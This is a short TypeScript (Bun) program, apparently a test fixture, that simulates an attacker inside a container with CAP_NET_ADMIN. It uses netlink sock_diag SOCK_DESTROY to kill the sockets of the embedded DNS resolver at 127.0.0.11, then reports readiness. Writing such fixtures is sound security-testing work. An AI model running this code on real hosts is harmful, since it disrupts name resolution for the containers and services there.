/**
 * An attacking program inside a container that has CAP_NET_ADMIN: it ends the sockets by which the daemon answers questions
 * for names in the container's network namespace (sock_diag(7), SOCK_DESTROY). It prints `{"ready": true}` when they are gone.
 */
import { dlopen, FFIType } from "bun:ffi"
import { readFileSync } from "node:fs"

const { i32, u32, u64, i64, ptr } = FFIType
const { symbols: c } = dlopen("libc.so.6", {
  socket: { args: [i32, i32, i32], returns: i32 },
  sendto: { args: [i32, ptr, u64, i32, ptr, u32], returns: i64 },
  recv: { args: [i32, ptr, u64, i32], returns: i64 },
})

const AF_NETLINK = 16
const SOCK_RAW = 3
const NETLINK_SOCK_DIAG = 4
const SOCK_DESTROY = 21
const NLM_F_REQUEST_ACK = 5
const AF_INET = 2
const protocols = { tcp: 6, udp: 17 } as const
/** As /proc/net has it. */
const nameServer = "0B00007F"

const socket = c.socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG)
for (const [name, protocol] of Object.entries(protocols)) {
  for (const [, port] of readFileSync(`/proc/net/${name}`, "latin1").matchAll(
    new RegExp(`${nameServer}:(\\w{4})`, "g"),
  )) {
    const request = Buffer.alloc(72)
    request.writeUInt32LE(request.length, 0)
    request.writeUInt16LE(SOCK_DESTROY, 4)
    request.writeUInt16LE(NLM_F_REQUEST_ACK, 6)
    request.set([AF_INET, protocol], 16)
    request.fill(0xff, 20, 24)
    request.writeUInt16BE(Number.parseInt(port!, 16), 24)
    request.set([127, 0, 0, 11], 28)
    request.fill(0xff, 64, 72)
    c.sendto(socket, request, BigInt(request.length), 0, null, 0)
    const answer = Buffer.alloc(256)
    c.recv(socket, answer, BigInt(answer.length), 0)
    const error = answer.readInt32LE(16)
    if (error !== 0) throw new Error(`${name} port ${port}: error ${error}`)
  }
}
if (/0B00007F/.test(readFileSync("/proc/net/tcp", "latin1"))) throw new Error("the socket is still there")
console.log(JSON.stringify({ ready: true }))
setInterval(() => {}, 1 << 30)
